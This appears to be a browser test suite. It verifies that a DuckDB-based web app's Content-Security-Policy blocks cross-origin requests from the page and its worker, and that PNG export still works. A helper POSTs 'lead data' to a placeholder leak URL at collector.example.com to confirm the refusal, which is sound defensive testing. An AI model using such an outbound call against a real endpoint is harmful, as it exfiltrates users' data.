import { readFile } from 'node:fs/promises';
import { afterEach, describe, expect, it } from 'vitest';
import { duckdbWorker } from './engine-worker';
import { type App, openApp, waitForState } from './harness';

/**
 * Private by policy: the page and the DuckDB worker are both under the site's
 * Content-Security-Policy, so the browser itself refuses a request to another origin. Each refusal
 * is read from the policy's own `securitypolicyviolation` event: without the policy the request
 * would go out (and the network guard would merely abort it), and these tests fail.
 */
const ELSEWHERE = 'https://collector.example.com/leak';

let app: App | undefined;
afterEach(async () => {
  expect(app?.outsideRequests ?? []).toEqual([]);
  // The only console errors are the browser's own notes of the refusals made here.
  expect((app?.errors ?? []).filter((error) => !/collector\.example\.com|'unsafe-eval'/.test(error))).toEqual(
    [],
  );
  await app?.close();
  app = undefined;
});

interface Refusal {
  directive: string;
  blocked: string;
}

/** Runs a fetch to another origin where `where` evaluates, and returns the policy's refusal. */
const refusedFetch = (url: string) =>
  new Promise<Refusal | string>((resolve) => {
    const scope = globalThis as unknown as EventTarget;
    scope.addEventListener('securitypolicyviolation', (event) => {
      const violation = event as SecurityPolicyViolationEvent;
      resolve({ directive: violation.effectiveDirective, blocked: violation.blockedURI });
    });
    fetch(url, { method: 'POST', body: 'lead data', mode: 'no-cors' }).then(
      () => setTimeout(() => resolve('sent'), 1000),
      (error: unknown) =>
        setTimeout(() => resolve(`failed without a policy refusal: ${String(error)}`), 1000),
    );
  });

describe('the Content-Security-Policy', () => {
  it('is sent as a header and a meta tag, and forbids other origins', async () => {
    app = await openApp();
    const response = await app.page.request.get(app.baseUrl);
    const header = response.headers()['content-security-policy'] ?? '';
    const meta = await app.page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
    for (const policy of [header, meta ?? '']) {
      expect(policy).toMatch(/default-src 'self'/);
      expect(policy).toMatch(/connect-src 'self'(;|$)/);
      expect(policy).toMatch(/object-src 'none'/);
      expect(policy).toMatch(/base-uri 'none'/);
      expect(policy).toMatch(/img-src 'self' data: blob:(;|$)/);
      const scripts = /script-src ([^;]*)/.exec(policy)?.[1] ?? '';
      expect(scripts).toMatch(/^'self' 'wasm-unsafe-eval'( 'sha256-[A-Za-z0-9+/=]+')+\s*$/);
      expect(scripts).not.toMatch(/'unsafe-inline'|'unsafe-eval'/);
    }
    const same = (policy: string) => policy.replace(/\s+/g, ' ').replace(/[\s;]+$/, '');
    expect(same(header)).toBe(same(meta ?? ''));
  });

  it('refuses a request to another origin from the page', async () => {
    app = await openApp();
    const refusal = await app.page.evaluate(refusedFetch, ELSEWHERE);
    expect(refusal).toEqual({ directive: 'connect-src', blocked: ELSEWHERE });
  });

  it('refuses a request to another origin from inside the DuckDB worker, where the engine runs; the PNG export still draws', async () => {
    app = await openApp();
    const { page } = app;
    await page.getByRole('button', { name: 'Try sample data' }).click();
    await waitForState(page, 'ready').catch(async (error: unknown) => {
      throw new Error(
        `${String(error)}; ${await page.locator('body').innerText()} ${app?.errors.join(' | ')}`,
      );
    });
    const worker = await duckdbWorker(page);
    // The engine's worker, started from a blob: so that it inherits the page's policy.
    expect(worker.url()).toMatch(/^blob:/);
    const refusal = await worker.evaluate(refusedFetch, ELSEWHERE);
    expect(refusal).toEqual({ directive: 'connect-src', blocked: ELSEWHERE });

    // Under the policy the PNG export still draws (an SVG as a data: image on a canvas).
    await page.locator('[data-testid="view-overview"]').waitFor();
    const menu = page.getByRole('button', { name: /^Download: / }).first();
    await menu.click();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('menuitem', { name: 'PNG image of the chart' }).click(),
    ]);
    const png = await readFile(await download.path());
    expect([...png.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    expect(png.length).toBeGreaterThan(2000);
  });
});
